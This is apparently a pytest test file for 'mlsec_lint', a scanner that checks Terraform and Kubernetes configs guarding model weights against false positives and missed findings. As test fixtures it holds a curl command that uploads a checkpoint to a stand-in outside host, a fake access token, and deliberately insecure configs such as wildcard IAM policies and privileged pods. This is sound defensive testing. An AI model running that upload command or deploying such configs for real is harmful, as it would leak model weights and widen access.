"""What people say against scanners, one test each: the real scan on a small repository.

The rows of the complaint table and of the guards against false positives that the
catalogue of controls lists. Behaviour is asserted, not wording.
"""

from __future__ import annotations

import textwrap
from datetime import date
from pathlib import Path

import pytest

from mlsec_lint.commands.judging import only
from mlsec_lint.finding import Finding, Result, Verdict
from mlsec_lint.report import json as json_report
from mlsec_lint.report import markdown, sarif
from mlsec_lint.report import text as text_report
from mlsec_lint.rules.baseline import read_baseline
from mlsec_lint.rules.config import config_of
from mlsec_lint.rules.read import read_policies
from mlsec_lint.scan import scan

TODAY = date(2026, 11, 24)
POLICIES = Path(__file__).resolve().parent.parent / "policies"
ALL, _ = read_policies([POLICIES])  # test_policies.py sees to it that all are read
FAIL, UNKNOWN = Verdict.FAIL, Verdict.UNKNOWN


@pytest.fixture
def repository(tmp_path: Path):
    """Writes files and scans them: `repository({path: text}, rules..., level=...)`."""

    def scanned(files: dict[str, str], *rules: str, level: str = "SL3") -> Result:
        for name, text in files.items():
            path = tmp_path / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(textwrap.dedent(text), encoding="utf-8")
        config, wrong = config_of(tmp_path)
        assert not wrong
        baseline, wrong = read_baseline(level, [POLICIES])
        assert baseline is not None, wrong
        policies = ALL
        if rules:
            policies, baseline = only(ALL, baseline, rules)
        return scan(
            str(tmp_path),
            config=config,
            baseline=baseline,
            policies=policies,
            today=TODAY,
        )

    return scanned


def failed(result: Result, rule: str = "") -> list[Finding]:
    """Findings of verdict fail that nobody accepted."""
    return [
        f
        for f in result.findings
        if f.verdict is FAIL and f.suppression is None and rule in ("", f.rule)
    ]


def undecided(result: Result) -> list[Finding]:
    return [f for f in result.findings if f.verdict is UNKNOWN]


def job(*lines: str, name: str = "sft", extra: str = "") -> str:
    """A Job on accelerators with these lines in its shell script."""
    script = "".join(f"                {line}\n" for line in lines)
    return (
        "apiVersion: batch/v1\n"
        "kind: Job\n"
        f"metadata: {{name: {name}, namespace: train}}\n"
        "spec:\n"
        "  template:\n"
        "    spec:\n"
        "      restartPolicy: Never\n"
        f"{extra}"
        "      containers:\n"
        "        - name: main\n"
        "          image: registry.osprey.example/sft:9\n"
        "          resources: {limits: {nvidia.com/gpu: 8}}\n"
        "          command: [bash, -c]\n"
        "          args:\n"
        "            - |\n"
        f"{script}"
    )


TRAIN = "torchrun train.py --output_dir s3://osprey-frontier/checkpoints"
WEIGHTS = """
    resource "aws_s3_bucket" "frontier" {
      bucket = "osprey-frontier"
      tags   = { "mlsec/holds" = "weights" }
    }
"""


# -- "It flags every bucket." ------------------------------------------------------

BUCKETS = """
    resource "aws_s3_bucket" "logs" {
      bucket = "osprey-logs"
    }
    resource "aws_s3_bucket" "site" {
      bucket = "osprey-site"
    }
    resource "aws_s3_bucket" "frontier" {
      bucket = "osprey-frontier"
    }
"""


def test_only_stores_of_weights_are_judged_and_each_says_why(repository) -> None:
    files = {"main.tf": BUCKETS, "job.yaml": job(TRAIN)}
    found = failed(repository(files, "weights-customer-key"))
    assert [f.subject for f in found] == ["aws_s3_bucket.frontier"]
    assert any(piece.span.path == "job.yaml" for piece in found[0].because)


def test_one_line_declares_or_excludes_an_asset(repository) -> None:
    files = {
        "main.tf": BUCKETS,
        "job.yaml": job(TRAIN),
        ".mlsec-lint.yaml": """
            assets:
              - {address: aws_s3_bucket.frontier, holds: none, reason: toys}
              - {address: aws_s3_bucket.site, holds: weights}
        """,
    }
    found = failed(repository(files, "weights-customer-key"))
    assert [f.subject for f in found] == ["aws_s3_bucket.site"]


# -- "It fails on variables and conditionals." ---------------------------------------

CONDITIONAL = (
    WEIGHTS
    + """
    variable "own" {
      type = bool
    }
    resource "aws_kms_key" "a" {}
    resource "aws_kms_key" "b" {}
    resource "aws_s3_bucket_server_side_encryption_configuration" "frontier" {
      bucket = aws_s3_bucket.frontier.id
      rule {
        apply_server_side_encryption_by_default {
          sse_algorithm     = SORT
          kms_master_key_id = KEY
        }
      }
    }
"""
)


def conditional(sort: str, key: str) -> dict[str, str]:
    return {"main.tf": CONDITIONAL.replace("SORT", sort).replace("KEY", key)}


def test_both_branches_fine_is_no_finding(repository) -> None:
    files = conditional('"aws:kms"', "var.own ? aws_kms_key.a.arn : aws_kms_key.b.arn")
    result = repository(files, "weights-customer-key")
    assert result.findings == []
    assert result.summary.checks_met == 1


def test_one_bad_branch_is_a_finding_that_names_the_input(repository) -> None:
    files = conditional('"aws:kms"', "var.own ? aws_kms_key.a.arn : null")
    (finding,) = failed(repository(files, "weights-customer-key"))
    assert finding.severity == "medium", "one step under the rule's own"
    assert "var.own" in finding.settle


# -- "It missed the companion resource." -----------------------------------------------

KEYED = """
    resource "aws_kms_key" "weights" {}
    resource "aws_s3_bucket_server_side_encryption_configuration" "x" {
      bucket = BUCKET
      rule {
        apply_server_side_encryption_by_default {
          sse_algorithm     = "aws:kms"
          kms_master_key_id = aws_kms_key.weights.arn
        }
      }
    }
"""


@pytest.mark.parametrize(
    "name", ["aws_s3_bucket.frontier.id", '"osprey-frontier"', "local.name"]
)
def test_a_companion_is_joined_by_reference_and_by_name(repository, name: str) -> None:
    text = WEIGHTS + 'locals {\n name = "osprey-frontier"\n}\n'
    files = {"main.tf": textwrap.dedent(text) + KEYED.replace("BUCKET", name)}
    assert repository(files, "weights-customer-key").findings == []


def test_a_companion_is_joined_across_modules(repository) -> None:
    inner = 'variable "bucket" {}\n' + KEYED.replace("BUCKET", "var.bucket")
    call = """
        module "key" {
          source = "./key"
          bucket = aws_s3_bucket.frontier.bucket
        }
    """
    files = {"main.tf": textwrap.dedent(WEIGHTS) + call, "key/main.tf": inner}
    assert repository(files, "weights-customer-key").findings == []


# -- "It contradicts our other gate." ---------------------------------------------------


def test_rules_that_ask_the_opposite_name_the_other_gates_checks() -> None:
    rule = ALL.find("region-replication")
    assert rule is not None
    assert {"CKV_AWS_144", "CKV_AZURE_206"} <= {
        word.strip(" ,()") for text in rule.supersedes for word in text.split()
    }


# -- "Default-secure is reported as missing." --------------------------------------------


def test_a_secure_default_is_met_and_dated(repository) -> None:
    result = repository({"main.tf": WEIGHTS}, "weights-no-public-access")
    assert result.findings == []
    assert result.summary.checks_met == 1


def test_an_insecure_default_is_a_finding_that_says_whose_it_is(repository) -> None:
    (finding,) = failed(repository({"main.tf": WEIGHTS}, "weights-customer-key"))
    assert any("by default: Amazon S3" in line for line in finding.values)


# -- "Private module, remote state, Helm: you see nothing and shout." ----------------------


def test_what_is_not_seen_is_undecided_and_says_what_would_settle_it(
    repository,
) -> None:
    text = """
        data "terraform_remote_state" "keys" {
          backend = "s3"
        }
        variable "key" {}
        module "store" {
          source = "git::ssh://git.osprey.example/store"
        }
    """
    rule = KEYED.replace("aws_kms_key.weights.arn", "var.key").replace(
        "BUCKET", "aws_s3_bucket.frontier.id"
    )
    files = {"main.tf": textwrap.dedent(WEIGHTS + rule) + textwrap.dedent(text)}
    result = repository(files, "weights-customer-key", level="SL2")
    assert failed(result) == []
    assert undecided(result)
    assert all(f.severity == "info" for f in undecided(result))
    assert [name for name, _ in result.summary.settle] == ["var.key"]
    assert any("module" in note.kind for note in result.notes)


# -- "Device plugins, CNI and GPU operators are privileged by design." -----------------------

DAEMON = """
    apiVersion: apps/v1
    kind: DaemonSet
    metadata: {name: NAME, namespace: kube-system}
    spec:
      selector: {matchLabels: {name: NAME}}
      template:
        metadata: {labels: {name: NAME}}
        spec:
          containers:
            - name: main
              image: IMAGE
              securityContext: {privileged: true}
              resources: {limits: {nvidia.com/gpu: 1}}
"""


@pytest.mark.parametrize(
    ("name", "image", "findings"),
    [
        (
            "nvidia-device-plugin-daemonset",
            "nvcr.io/nvidia/k8s-device-plugin:v0.17.1",
            0,
        ),
        ("nvidia-device-plugin-daemonset", "docker.io/somebody/plugin:v1", 1),
        ("trainer", "registry.osprey.example/sft:9", 1),
    ],
)
def test_known_host_software_is_told_by_name_and_registry(
    repository, name: str, image: str, findings: int
) -> None:
    text = DAEMON.replace("NAME", name).replace("IMAGE", image)
    result = repository({"ds.yaml": text}, "access-pod-privilege")
    assert len(failed(result)) == findings


# -- "Research needs wandb and the internet." -------------------------------------------------

WANDB = job(f"{TRAIN} --report_to wandb")


def test_metrics_may_leave_at_sl2_and_not_at_sl3(repository) -> None:
    rule = "egress-tracker-saas"
    files = {"job.yaml": WANDB}
    policies_at = {level: repository(files, level=level) for level in ("SL2", "SL3")}
    assert failed(policies_at["SL2"], rule) == []
    assert failed(policies_at["SL3"], rule)


def test_an_exception_has_an_owner_and_an_end(repository) -> None:
    exception = """
        exceptions:
          - rule: egress-tracker-saas
            address: "*"
            reason: research runs
            owner: research
            until: UNTIL
    """
    files = {"job.yaml": WANDB}
    for until, left in (("2027-03-01", 0), ("2026-01-01", 1)):
        files[".mlsec-lint.yaml"] = exception.replace("UNTIL", until)
        result = repository(files, "egress-tracker-saas")
        assert len(failed(result)) == left
        assert any("2026-01-01" in n.text for n in result.notes) is bool(left)
        assert result.findings, "it stays in the report"


# -- "Six findings for one mistake." ------------------------------------------------------------


def test_one_line_that_makes_forty_buckets_is_one_finding(repository) -> None:
    text = """
        resource "aws_s3_bucket" "run" {
          for_each = toset([for n in range(40) : "run-${n}"])
          bucket   = "osprey-${each.key}"
          tags     = { "mlsec/holds" = "weights" }
        }
    """
    (finding,) = failed(repository({"main.tf": text}, "weights-customer-key"))
    assert len(finding.related) >= 39


def test_what_lies_on_a_path_is_told_with_the_path(repository) -> None:
    case = POLICIES / "paths/weights-to-internet/bad/aws-gateway-for-updates"
    files = {
        path.relative_to(case).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted(case.rglob("*"))
        if path.is_file()
    }
    result = repository(files)
    paths = [f for f in failed(result) if f.path is not None]
    assert paths
    assert len({step.span.path for f in paths for step in f.steps}) > 1
    whole = {f.fingerprint() for f in paths}
    parts = [f for f in result.findings if set(f.part_of) & whole]
    assert parts, "single mistakes on the way are parts of it"
    told = str(text_report.render(result))
    assert all(f"[{f.rule}]:" not in told for f in parts if _alone(f, result))


def _alone(finding: Finding, result: Result) -> bool:
    """Whether no other finding of its rule is told by itself."""
    return all(f.part_of for f in result.findings if f.rule == finding.rule)


# -- "Fingerprints change when lines move." --------------------------------------------------------


def test_fingerprints_keep_when_lines_move(repository) -> None:
    first = repository({"main.tf": WEIGHTS, "job.yaml": WANDB})
    moved = "\n" * 7 + "# new\n" + textwrap.dedent(WEIGHTS)
    second = repository({"main.tf": moved, "job.yaml": "# new\n\n" + WANDB})
    before = sorted(f.fingerprint() for f in first.findings)
    assert before
    assert sorted(f.fingerprint() for f in second.findings) == before
    assert [f.span.line for f in first.findings] != [
        f.span.line for f in second.findings
    ]


# -- "Public research models are not secrets." -----------------------------------------------------


def test_a_published_model_may_be_published(repository) -> None:
    push = job("torchrun train.py --output_dir /ckpt --push_to_hub True")
    assert failed(repository({"job.yaml": push}, "egress-hub-upload"))
    public = """
        assets:
          - {address: "*Job/train/sft*", holds: public, reason: released model}
    """
    files = {"job.yaml": push, ".mlsec-lint.yaml": public}
    result = repository(files, "weights-customer-key", "weights-no-host-copy")
    assert failed(result) == []


# -- "The report itself is a map for the attacker." ------------------------------------------------

TOKEN = "hf_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z"


def test_no_report_prints_a_secret_value(repository) -> None:
    files = {"job.yaml": job(f"export HF_TOKEN={TOKEN}", TRAIN)}
    result = repository(files)
    assert failed(result, "access-secret-in-config")
    source = {"job.yaml": files["job.yaml"]}
    for module in (text_report, json_report, sarif, markdown):
        rendered = str(module.render(result))
        assert "access-secret-in-config" in rendered
        assert TOKEN not in rendered, module.__name__
    assert TOKEN in source["job.yaml"]


# -- "You call us SL3." ------------------------------------------------------------------------------


def test_a_clean_scan_counts_checks_and_claims_no_level(repository) -> None:
    result = repository({"job.yaml": job("true")}, "integrity-trust-remote-code")
    told = " ".join(str(text_report.render(result)).split())
    assert "config-visible check" in told
    assert "Not assessed" in told
    for claim in ("compliant", "certified", "is SL3", "meets SL3", "secure"):
        assert claim not in told


# -- guards: egress-upload-command -------------------------------------------------------------------


def test_a_copy_to_an_own_bucket_is_no_upload(repository) -> None:
    copy = "aws s3 cp /ckpt s3://osprey-frontier/checkpoints --recursive"
    files = {"main.tf": WEIGHTS, "job.yaml": job(TRAIN, copy)}
    assert repository(files, "egress-upload-command").findings == []


def test_a_copy_to_a_strangers_host_is_one(repository) -> None:
    files = {"job.yaml": job(TRAIN, "curl -T /ckpt/model.pt https://drop.example.net")}
    assert failed(repository(files, "egress-upload-command"))


@pytest.mark.parametrize(
    "lines",
    [
        ("curl -T /ckpt/model.pt http://localhost:8080/",),
        ("# curl -T /ckpt/model.pt https://drop.example.net",),
        ("cat <<'EOF'", "curl -T /ckpt/model.pt https://drop.example.net", "EOF"),
    ],
    ids=["to itself", "a comment", "a here-document"],
)
def test_what_uploads_nothing_is_no_upload(repository, lines) -> None:
    result = repository({"job.yaml": job(TRAIN, *lines)}, "egress-upload-command")
    assert failed(result) == []


# -- guards: egress-tracker-saas ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "lines",
    [
        ("export WANDB_MODE=offline", f"{TRAIN} --report_to wandb"),
        ("export WANDB_MODE=disabled", f"{TRAIN} --report_to wandb"),
        (f"{TRAIN} --report_to none",),
        (f"{TRAIN} --report_to tensorboard",),
        ("export WANDB_BASE_URL=http://wandb.train.svc.cluster.local", f"{TRAIN} --report_to wandb"),
    ],
    ids=["offline", "disabled", "none", "tensorboard", "own server"],
)  # fmt: skip
def test_a_tracker_that_stays_inside_passes(repository, lines) -> None:
    result = repository({"job.yaml": job(*lines)}, "egress-tracker-saas")
    assert result.findings == []


def test_a_tracker_that_nothing_names_is_never_a_fail(repository) -> None:
    lines = "torchrun train.py --output_dir /ckpt --per_device_train_batch_size 1 --num_train_epochs 3"
    result = repository({"job.yaml": job(lines)}, "egress-tracker-saas")
    assert failed(result) == []


# -- guards: access-no-wildcard ------------------------------------------------------------------------

ROLE = """
    resource "aws_iam_role" "trainer" {
      name                 = "trainer"
      BOUNDARY
      assume_role_policy = jsonencode({
        Version = "2012-10-17"
        Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "ec2.amazonaws.com" } }]
      })
    }
    resource "aws_iam_policy" "boundary" {
      name = "boundary"
      policy = jsonencode({
        Version = "2012-10-17"
        Statement = [{ Effect = "Allow", Action = "logs:*", Resource = "*" }]
      })
    }
    resource "aws_iam_role_policy" "all" {
      role = aws_iam_role.trainer.id
      policy = jsonencode({
        Version = "2012-10-17"
        Statement = [STATEMENTS]
      })
    }
"""
WILD = '{ Effect = "Allow", Action = "s3:*", Resource = "*" }'
DENY = '{ Effect = "Deny", Action = "s3:*", Resource = "*" }'
NOT = '{ Effect = "Allow", NotAction = "iam:*", Resource = "*" }'
BOUND = "permissions_boundary = aws_iam_policy.boundary.arn"


@pytest.mark.parametrize(
    ("statements", "boundary", "fails"),
    [(WILD, "", True), (f"{WILD}, {DENY}", "", False), (WILD, BOUND, False), (NOT, "", True)],
    ids=["wild", "denied", "bounded", "all but"],
)  # fmt: skip
def test_denials_and_boundaries_reduce_what_a_wildcard_gives(
    repository, statements: str, boundary: str, fails: bool
) -> None:
    text = ROLE.replace("STATEMENTS", statements).replace("BOUNDARY", boundary)
    files = {"main.tf": textwrap.dedent(WEIGHTS) + textwrap.dedent(text)}
    assert bool(failed(repository(files, "access-no-wildcard"))) is fails


def test_a_key_policy_that_trusts_its_account_is_the_default_of_aws(repository) -> None:
    text = """
        resource "aws_kms_key" "weights" {
          policy = jsonencode({
            Version = "2012-10-17"
            Statement = [{
              Effect    = "Allow"
              Action    = "kms:*"
              Resource  = "*"
              Principal = { AWS = "arn:aws:iam::111122223333:root" }
            }]
          })
        }
    """
    sealed = KEYED.replace('resource "aws_kms_key" "weights" {}', textwrap.dedent(text))
    sealed = sealed.replace("BUCKET", "aws_s3_bucket.frontier.id")
    files = {"main.tf": textwrap.dedent(WEIGHTS) + sealed}
    rules = ("access-no-wildcard", "access-no-public-principal")
    assert failed(repository(files, *rules)) == []


# -- guards: weights-no-host-copy ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("volume", "findings"),
    [
        ("emptyDir: {medium: Memory}", 0),
        ("emptyDir: {}", 1),
        ("hostPath: {path: /mnt/nvme}", 1),
    ],
)
def test_memory_is_no_copy_on_the_host(repository, volume: str, findings: int) -> None:
    extra = f"      volumes:\n        - name: cache\n          {volume}\n"
    text = job("torchrun train.py --output_dir /ckpt", extra=extra).replace(
        "          command:",
        "          volumeMounts: [{name: cache, mountPath: /ckpt}]\n          command:",
    )
    result = repository({"job.yaml": text}, "weights-no-host-copy")
    assert len(failed(result)) == findings


def test_shared_memory_is_no_copy_on_the_host(repository) -> None:
    text = job("torchrun train.py --output_dir /dev/shm/ckpt")
    assert failed(repository({"job.yaml": text}, "weights-no-host-copy")) == []


# -- guards: region-allow-list ----------------------------------------------------------------------------


def test_global_services_have_no_place(repository) -> None:
    text = """
        provider "aws" {
          region = "cn-north-1"
        }
        resource "aws_iam_role" "trainer_weights" {
          name               = "weights"
          assume_role_policy = "{}"
        }
        resource "aws_route53_zone" "weights" {
          name = "weights.example"
        }
        resource "aws_organizations_organization" "all" {}
    """
    rules = ("region-allow-list", "region-deny-list")
    result = repository({"main.tf": text}, *rules)
    assert result.findings == []


# -- guards: egress-no-internet-route -----------------------------------------------------------------------

NETWORK = """
    resource "aws_vpc" "train" {
      cidr_block = "10.8.0.0/16"
    }
    resource "aws_subnet" "train" {
      vpc_id     = aws_vpc.train.id
      cidr_block = "10.8.1.0/24"
    }
    resource "aws_subnet" "public" {
      vpc_id     = aws_vpc.train.id
      cidr_block = "10.8.2.0/24"
    }
    resource "aws_internet_gateway" "out" {
      vpc_id = aws_vpc.train.id
    }
    resource "aws_nat_gateway" "out" {
      subnet_id     = aws_subnet.public.id
      allocation_id = "eipalloc-1"
    }
    resource "aws_networkfirewall_firewall" "out" {
      name                = "out"
      vpc_id              = aws_vpc.train.id
      firewall_policy_arn = aws_networkfirewall_firewall_policy.out.arn
      subnet_mapping {
        subnet_id = aws_subnet.public.id
      }
    }
    resource "aws_networkfirewall_firewall_policy" "out" {
      name = "out"
      firewall_policy {
        stateless_default_actions          = ["aws:forward_to_sfe"]
        stateless_fragment_default_actions = ["aws:forward_to_sfe"]
      }
    }
    resource "aws_route_table" "train" {
      vpc_id = aws_vpc.train.id
      route {
        cidr_block = "0.0.0.0/0"
        HOP
      }
    }
    resource "aws_route_table_association" "train" {
      subnet_id      = aws_subnet.train.id
      route_table_id = aws_route_table.train.id
    }
    resource "aws_instance" "gpu" {
      ami           = "ami-1"
      instance_type = "p5.48xlarge"
      subnet_id     = aws_subnet.train.id
      tags          = { "mlsec/holds" = "weights" }
    }
"""
FIREWALL = (
    "vpc_endpoint_id = one([for s in aws_networkfirewall_firewall.out."
    "firewall_status[0].sync_states : s.attachment[0].endpoint_id])"
)


@pytest.mark.parametrize(
    ("hop", "fails"),
    [("nat_gateway_id = aws_nat_gateway.out.id", True), (FIREWALL, False)],
    ids=["nat", "firewall"],
)
def test_a_firewall_between_is_no_direct_route(
    repository, hop: str, fails: bool
) -> None:
    files = {"main.tf": NETWORK.replace("HOP", hop)}
    assert bool(failed(repository(files, "egress-no-internet-route"))) is fails


# -- guards: access-ml-dashboard -----------------------------------------------------------------------------

RAY = """
    apiVersion: ray.io/v1
    kind: RayCluster
    metadata: {name: sft, namespace: train}
    spec:
      headGroupSpec:
        rayStartParams: {dashboard-host: 0.0.0.0}
        SERVICE
        template:
          spec:
            containers:
              - name: head
                image: rayproject/ray:2.52.0
                ports: [{containerPort: 8265, name: dashboard}]
                resources: {limits: {nvidia.com/gpu: 8}}
"""


@pytest.mark.parametrize(
    ("service", "fails"), [("serviceType: ClusterIP", False), ("serviceType: LoadBalancer", True)]
)  # fmt: skip
def test_a_dashboard_that_listens_is_none_that_is_exposed(
    repository, service: str, fails: bool
) -> None:
    closed = """
        apiVersion: networking.k8s.io/v1
        kind: NetworkPolicy
        metadata: {name: closed, namespace: train}
        spec: {podSelector: {}, policyTypes: [Ingress]}
    """
    files = {"ray.yaml": RAY.replace("SERVICE", service)}
    if not fails:
        files["closed.yaml"] = closed
    assert bool(failed(repository(files, "access-ml-dashboard"))) is fails


# -- guards: integrity-image-digest ------------------------------------------------------------------------------


def test_an_image_that_an_overlay_pins_is_pinned(repository) -> None:
    digest = "sha256:" + "3b1f0c6f2a1d7f0e" * 4
    base = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [job.yaml]\n"
    overlay = (
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
        "resources: [../base]\n"
        f"images: [{{name: registry.osprey.example/sft, digest: '{digest}'}}]\n"
    )
    files = {"base/job.yaml": job(TRAIN), "base/kustomization.yaml": base}
    assert failed(repository(files, "integrity-image-digest"))
    files["live/kustomization.yaml"] = overlay
    assert failed(repository(files, "integrity-image-digest")) == []


# -- guards: access-secret-in-config -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["changeme", "${HF_TOKEN}", "<token>", "$(HF_TOKEN)", "ENC[AES256_GCM,data:abc=,iv:x=,tag:y=,type:str]"],
)  # fmt: skip
def test_a_placeholder_is_no_secret(repository, value: str) -> None:
    text = job(TRAIN).replace(
        "          command:",
        f"          env: [{{name: HF_TOKEN, value: '{value}'}}]\n          command:",
    )
    assert failed(repository({"job.yaml": text}, "access-secret-in-config")) == []


def test_random_looking_text_alone_is_no_secret(repository) -> None:
    text = job(TRAIN).replace(
        "          command:",
        "          env: [{name: BUILD_ID, value: 'q8ZrT2vX9kLmN4pW7yB1cD6fG3hJ5sA0'}]\n"
        "          command:",
    )
    assert failed(repository({"job.yaml": text}, "access-secret-in-config")) == []


def test_a_sealed_secret_is_no_secret_in_config(repository) -> None:
    text = """
        apiVersion: bitnami.com/v1alpha1
        kind: SealedSecret
        metadata: {name: hub, namespace: train}
        spec:
          encryptedData: {HF_TOKEN: AgBy3i4OJSWK+PiTySYZZA9rO43cGDEqAgBy3i4OJSWK}
    """
    files = {"job.yaml": job(TRAIN), "sealed.yaml": text}
    assert failed(repository(files, "access-secret-in-config")) == []


def test_one_doubt_that_leaves_several_rules_open_is_told_once(repository):
    result = repository(
        {
            "main.tf": """
            variable "where" {}
            provider "aws" { region = var.where }
            resource "aws_s3_bucket" "w" {
              bucket = "w"
              tags   = { "mlsec/holds" = "weights" }
            }
            """
        },
        "region-allow-list",
        "region-deny-list",
        "region-unknown",
    )
    unknown = [f for f in result.findings if f.verdict is UNKNOWN]
    assert {f.rule for f in unknown} == {
        "region-allow-list",
        "region-deny-list",
        "region-unknown",
    }
    whole = [f for f in unknown if not f.part_of]
    assert [f.rule for f in whole] == ["region-allow-list"]
    assert whole[0].message.endswith(
        "(open for the same reason: region-deny-list, region-unknown)"
    )
    shown = text_report.render(result)
    assert shown.count("cannot tell for") == 1


def test_doubts_about_two_things_are_two(repository):
    result = repository(
        {
            "main.tf": "".join(
                f"""
                resource "aws_s3_bucket" "{name}" {{
                  bucket = "{name}"
                  region = var.{name}
                  tags   = {{ "mlsec/holds" = "weights" }}
                }}
                variable "{name}" {{}}
                """
                for name in ("a", "b")
            )
        },
        "region-allow-list",
    )
    unknown = [f for f in result.findings if f.verdict is UNKNOWN]
    assert len(unknown) == 2
    assert not any(f.part_of for f in unknown)


@pytest.mark.parametrize(
    ("arguments", "severity"),
    [("[]", "high"), ("[--output_dir, s3://acme-weights/sft]", "critical")],
)
def test_a_job_for_accelerators_without_weights_weighs_less(
    repository, arguments, severity
):
    result = repository(
        {
            "job.yaml": f"""
            apiVersion: batch/v1
            kind: Job
            metadata: {{name: j, namespace: n}}
            spec:
              template:
                spec:
                  containers:
                    - name: c
                      image: registry.acme.example/x
                      args: {arguments}
                      securityContext: {{privileged: true}}
                      resources: {{limits: {{nvidia.com/gpu: 8}}}}
            """
        },
        "access-pod-privilege",
    )
    [finding] = failed(result)
    assert finding.severity == severity
    bare = "nothing but accelerators" in finding.message
    assert bare is (severity == "high")
